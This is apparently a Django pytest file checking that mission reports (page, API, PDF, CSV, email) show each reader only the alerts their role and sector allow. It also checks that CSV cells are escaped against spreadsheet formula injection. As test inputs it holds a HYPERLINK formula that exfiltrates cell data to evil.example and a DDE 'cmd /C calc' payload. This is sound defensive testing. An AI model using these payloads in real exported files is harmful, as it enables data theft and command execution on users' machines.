"""Compiled reports keep each reader's scope: an alert routed to another sector's queue never
reaches a Force officer through a report of their sector or of the mission (page, API, PDF,
CSV, email), and every cell of the CSV is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from alerts.models import Alert
from clas.models import Role
from reporting.models import DistributionList, Report
from reporting.services import report_compile, report_distribute
from tests import factories as f
from tests.conftest import Mission

pytestmark = pytest.mark.django_db

DAY = dt.date(2026, 6, 10)
HIDDEN_PLACE = "Kpokolo, behind the market"
HIDDEN_TEXT = "Two women assaulted at the water point."
SEEN_PLACE = "Ngakobo crossing"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


@pytest.fixture(autouse=True)
def report_language(settings: Any) -> None:
    settings.REPORT_LANGUAGE = "en"


def _alert(location: Any, queue: Any, **kwargs: Any) -> Alert:
    at = timezone.make_aware(dt.datetime.combine(DAY, dt.time(10)))
    return f.AlertFactory(
        location=location,
        queue=queue,
        status=Alert.Status.QUEUED,
        reported_at=at,
        occurred_at=at - dt.timedelta(hours=1),
        created_at=at,
        **kwargs,
    )


@pytest.fixture
def alerts(mission: Mission) -> tuple[Alert, Alert]:
    """In sector A both: one on sector A's queue, one routed to sector B's (restricted to
    its officers: the Force of sector A gets 404 on it)."""
    seen = _alert(mission.base_a, mission.queue_a, place=SEEN_PLACE)
    hidden = _alert(
        mission.base_a,
        mission.queue_b,
        place=HIDDEN_PLACE,
        description=HIDDEN_TEXT,
        victims_sexual_violence=2,
    )
    return seen, hidden


@pytest.fixture(params=["mission", "sector"])
def report(request: pytest.FixtureRequest, mission: Mission, alerts: Any) -> Report:
    sector_id = mission.sector_a.pk if request.param == "sector" else None
    return report_compile(kind=Report.Kind.DAILY, start=DAY, end=DAY, sector_id=sector_id)


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _csv_rows(body: bytes | str) -> list[dict[str, str]]:
    """The rows of a CSV file (an email attachment of type text/* comes as text)."""
    text = body.decode("utf-8") if isinstance(body, bytes) else body
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _pdf_text(body: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def _download(client: Client, name: str, report: Report) -> bytes:
    response = client.get(reverse(f"reporting:report_{name}", args=[report.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_force_officer_gets_404_on_the_hidden_alert(mission: Mission, alerts: Any) -> None:
    seen, hidden = alerts
    client = _client(mission.force)

    assert client.get(f"/api/v1/alerts/{hidden.pk}/").status_code == 404
    assert client.get(f"/api/v1/alerts/{seen.pk}/").status_code == 200


def test_the_csv_lists_only_the_alerts_the_force_officer_may_see(
    mission: Mission, alerts: Any, report: Report
) -> None:
    seen, _hidden = alerts

    rows = _csv_rows(_download(_client(mission.force), "csv", report))

    assert [r["Reference"] for r in rows] == [seen.reference]
    assert HIDDEN_PLACE not in str(rows)


def test_the_pdf_page_and_api_count_only_what_the_force_officer_may_see(
    mission: Mission, alerts: Any, report: Report
) -> None:
    client = _client(mission.force)

    pdf = _pdf_text(_download(client, "pdf", report))
    page = client.get(reverse("reporting:report_detail", args=[report.pk]))
    api = client.get(f"/api/v1/reports/{report.pk}/").json()

    assert report.figures["total"] == 2  # the stored copy holds both
    assert api["figures"]["total"] == 1
    assert page.status_code == 200
    assert '<td class="num" id="fig-total">1</td>' in page.content.decode()
    assert '<td class="num" id="fig-total">1</td>' in api["html"]
    assert "Ippy" in pdf


@pytest.mark.parametrize("role", ["hq", "admin"])
def test_mission_wide_readers_get_the_stored_report(
    mission: Mission, alerts: Any, report: Report, role: str
) -> None:
    client = _client(mission.user(role))

    rows = _csv_rows(_download(client, "csv", report))
    api = client.get(f"/api/v1/reports/{report.pk}/").json()

    assert {r["Reference"] for r in rows} == {a.reference for a in alerts}
    assert _download(client, "pdf", report) == report.pdf.open("rb").read()
    assert api["figures"]["total"] == 2


def test_a_flash_digest_shows_its_alert_only_to_who_may_see_it(
    mission: Mission, alerts: Any
) -> None:
    _seen, hidden = alerts
    report = report_compile(
        kind=Report.Kind.FLASH,
        start=DAY,
        end=DAY,
        sector_id=mission.sector_a.pk,
        alert_id=hidden.pk,
    )

    html = _client(mission.force).get(f"/api/v1/reports/{report.pk}/").json()["html"]
    pdf = _pdf_text(_download(_client(mission.force), "pdf", report))

    assert HIDDEN_TEXT in report.html
    assert HIDDEN_TEXT not in html and hidden.reference not in html
    assert HIDDEN_TEXT not in pdf and HIDDEN_PLACE not in pdf
    assert HIDDEN_TEXT in _client(mission.hq).get(f"/api/v1/reports/{report.pk}/").json()["html"]


def test_reports_from_the_field_are_left_out_for_the_force(mission: Mission, alerts: Any) -> None:
    f.ReportFactory(
        origin=Report.Origin.WRITTEN,
        kind=Report.Kind.DAILY,
        scope=Report.Scope.LOCATION,
        location=mission.base_a,
        author=mission.cla,
        status=Report.Status.SUBMITTED,
        period_start=DAY,
        period_end=DAY,
        key_events="The chief named the informant: Marie K.",
    )
    report = report_compile(kind=Report.Kind.DAILY, start=DAY, end=DAY)

    api = _client(mission.force).get(f"/api/v1/reports/{report.pk}/").json()

    assert "Marie K." in report.html
    assert "Marie K." not in api["html"]
    assert api["figures"]["narratives"] == []


# --- email -------------------------------------------------------------------------------


def test_each_recipient_receives_what_their_account_may_see(mission: Mission, alerts: Any) -> None:
    seen, _hidden = alerts
    mission.force.email = "Force-A@mission.test"
    mission.force.save()
    mission.hq.email = "hq@mission.test"
    mission.hq.save()
    DistributionList.objects.create(
        name="Sector A",
        emails="force-a@mission.test\nhq@mission.test\noutside@partner.test",
        sector=mission.sector_a,
    )
    report = report_compile(
        kind=Report.Kind.DAILY, start=DAY, end=DAY, sector_id=mission.sector_a.pk
    )

    assert report_distribute(report_id=report.pk) == 3

    by_address = {tuple(m.bcc): m for m in mail.outbox}
    assert set(by_address) == {
        ("hq@mission.test",),
        ("force-a@mission.test",),
        ("outside@partner.test",),
    }
    force_csv = next(
        a for a in by_address[("force-a@mission.test",)].attachments if a[2] == "text/csv"
    )
    assert [r["Reference"] for r in _csv_rows(force_csv[1])] == [seen.reference]
    force_pdf = next(
        a for a in by_address[("force-a@mission.test",)].attachments if a[2] == "application/pdf"
    )
    assert HIDDEN_PLACE not in _pdf_text(force_pdf[1])
    hq_csv = next(a for a in by_address[("hq@mission.test",)].attachments if a[2] == "text/csv")
    assert len(_csv_rows(hq_csv[1])) == 2
    outside = by_address[("outside@partner.test",)]
    assert outside.attachments == []
    assert f"/reports/{report.pk}/" in outside.body


def test_an_address_shared_by_two_accounts_gets_only_the_link(
    mission: Mission, alerts: Any
) -> None:
    f.UserFactory(username="hq-2", role=Role.HQ, email="desk@mission.test")
    f.UserFactory(
        username="force-2", role=Role.FORCE, sector=mission.sector_b, email="desk@mission.test"
    )
    DistributionList.objects.create(name="Desk", emails="desk@mission.test")
    report = report_compile(kind=Report.Kind.DAILY, start=DAY, end=DAY)

    report_distribute(report_id=report.pk)

    [message] = mail.outbox
    assert message.attachments == []


# --- formulas ------------------------------------------------------------------------------

FORMULA_CELLS = {
    "place": FORMULA,
    "description": "+1+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("role", ["force", "hq"])
def test_every_cell_of_the_report_csv_is_safe_in_a_spreadsheet(mission: Mission, role: str) -> None:
    location = f.TemporaryBaseFactory(name="@Bria", sector=mission.sector_a)
    _alert(location, mission.queue_a, **FORMULA_CELLS)
    report = report_compile(kind=Report.Kind.DAILY, start=DAY, end=DAY)

    [row] = _csv_rows(_download(_client(mission.user(role)), "csv", report))

    assert row["Place or village"] == "'" + FORMULA
    assert row["Description"] == "'" + FORMULA_CELLS["description"]
    assert row["Location"] == "'@Bria"
    unsafe = [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert unsafe == []


def test_an_account_that_may_not_read_the_report_gets_only_the_link(
    mission: Mission, alerts: Any
) -> None:
    DistributionList.objects.create(name="CLAs", emails=mission.cla.email)
    report = report_compile(kind=Report.Kind.DAILY, start=DAY, end=DAY)

    report_distribute(report_id=report.pk)

    [message] = mail.outbox
    assert message.attachments == []
    assert (
        _client(mission.cla).get(reverse("reporting:report_csv", args=[report.pk])).status_code
        == 404
    )
